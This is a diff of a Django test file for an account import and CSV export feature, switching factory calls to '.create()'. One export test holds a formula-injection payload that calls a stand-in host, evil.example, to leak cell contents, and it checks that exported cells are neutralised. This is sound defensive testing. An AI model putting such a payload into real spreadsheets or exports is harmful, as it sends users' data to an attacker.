@@ -257,7 +257,7 @@ def test_an_import_creates_accounts_with_their_list_index(manager: User) -> None
 def test_a_bad_row_in_all_or_nothing_mode_stores_nothing_and_names_row_and_field(
     manager: User,
 ) -> None:
-    AccountFactory(external_id="crm-1", name="Acme", employees=10)
+    AccountFactory.create(external_id="crm-1", name="Acme", employees=10)
     report = accounts_import(
         actor=manager,
         rows=[
@@ -319,7 +319,7 @@ def test_reimporting_the_same_file_reports_everything_unchanged(
 
 
 def test_an_update_sets_only_the_columns_the_file_has(manager: User) -> None:
-    AccountFactory(
+    AccountFactory.create(
         external_id="crm-1", name="Acme", employees=450, country="DE", traits={"legacy": 1}
     )
     report = accounts_import(
@@ -337,7 +337,7 @@ def test_an_update_sets_only_the_columns_the_file_has(manager: User) -> None:
 
 
 def test_an_empty_trait_cell_clears_that_trait_only(manager: User, traits: dict[str, Any]) -> None:
-    AccountFactory(external_id="crm-1", traits={"seats": 5, "plan": "Pro"})
+    AccountFactory.create(external_id="crm-1", traits={"seats": 5, "plan": "Pro"})
     accounts_import(actor=manager, rows=[{"external_id": "crm-1", "name": "A", "traits.seats": ""}])
     assert Account.objects.get(external_id="crm-1").traits == {"plan": "Pro"}
 
@@ -364,7 +364,7 @@ def test_duplicate_external_ids_are_an_error_naming_both_rows(manager: User) -> 
 def test_imported_accounts_get_a_score_when_a_current_run_exists(
     manager: User, current_run: ScoringRun
 ) -> None:
-    AccountFactory(external_id="crm-1", name="Acme", employees=5000, has_revops=True)
+    AccountFactory.create(external_id="crm-1", name="Acme", employees=5000, has_revops=True)
     report = accounts_import(
         actor=manager,
         rows=[
@@ -385,7 +385,7 @@ def test_an_import_runs_the_same_queries_for_few_rows_and_many(
     manager: User, current_run: ScoringRun
 ) -> None:
     def run(prefix: str, count: int) -> int:
-        AccountFactory(external_id=f"{prefix}-0")
+        AccountFactory.create(external_id=f"{prefix}-0")
         rows = [{"external_id": f"{prefix}-{n}", "name": f"Co {n}"} for n in range(count)]
         with CaptureQueriesContext(connection) as queries:
             accounts_import(actor=manager, rows=rows)
@@ -404,11 +404,11 @@ def test_a_member_without_a_managing_role_may_not_import(rep: User, outsider: Us
 
 
 def test_staff_import_only_with_the_permission_to_add_accounts() -> None:
-    staff = UserFactory(username="admin", is_staff=True)
+    staff = UserFactory.create(username="admin", is_staff=True)
     with pytest.raises(PermissionDenied):
         accounts_import(actor=staff, rows=[{"external_id": "crm-1", "name": "Acme"}])
     assert not Account.objects.exists()
-    staff = UserFactory(username="integration", permissions=["scoring.add_account"])
+    staff = UserFactory.create(username="integration", permissions=["scoring.add_account"])
     report = accounts_import(actor=staff, rows=[{"external_id": "crm-1", "name": "Acme"}])
     assert report.created == 1
 
@@ -638,9 +638,9 @@ def exported(response: Any) -> list[list[str]]:
 def test_the_export_streams_the_lists_accounts_for_its_filters(
     client: Client, rep: User, icp: Profile, current_run: ScoringRun
 ) -> None:
-    AccountFactory(external_id="crm-1", name="Acme", domain="acme.example", employees=450)
-    AccountFactory(external_id="crm-2", name="Beta", domain="beta.example", has_revops=None)
-    AccountFactory(external_id="crm-3", name="Gamma", domain="gamma.example", country="KP")
+    AccountFactory.create(external_id="crm-1", name="Acme", domain="acme.example", employees=450)
+    AccountFactory.create(external_id="crm-2", name="Beta", domain="beta.example", has_revops=None)
+    AccountFactory.create(external_id="crm-3", name="Gamma", domain="gamma.example", country="KP")
     services.accounts_score(list(Account.objects.values_list("pk", flat=True)))
     client.force_login(rep)
     response = client.get(reverse("account-export"), {"sort": "-score"})
@@ -671,7 +671,7 @@ def test_the_export_streams_the_lists_accounts_for_its_filters(
 def test_the_export_without_a_scored_profile_leaves_the_scores_empty(
     client: Client, rep: User
 ) -> None:
-    AccountFactory(external_id="crm-1", name="=HYPERLINK(1)", domain="acme.example")
+    AccountFactory.create(external_id="crm-1", name="=HYPERLINK(1)", domain="acme.example")
     client.force_login(rep)
     rows = exported(client.get(reverse("account-export")))
     assert rows[1] == ["crm-1", "'=HYPERLINK(1)", "acme.example", "", "", "", "", "", ""]
@@ -683,7 +683,7 @@ def test_every_exported_cell_is_kept_from_running_as_a_formula(
 ) -> None:
     formula = f'{lead}HYPERLINK("http://evil.example/leak?"&A2,"Open")'
     Profile.objects.filter(pk=icp.pk).update(name=formula)
-    AccountFactory(external_id=formula, name=formula, domain=formula, employees=450)
+    AccountFactory.create(external_id=formula, name=formula, domain=formula, employees=450)
     services.accounts_score(list(Account.objects.values_list("pk", flat=True)))
     client.force_login(rep)
     rows = exported(client.get(reverse("account-export"), {"profile": icp.slug}))
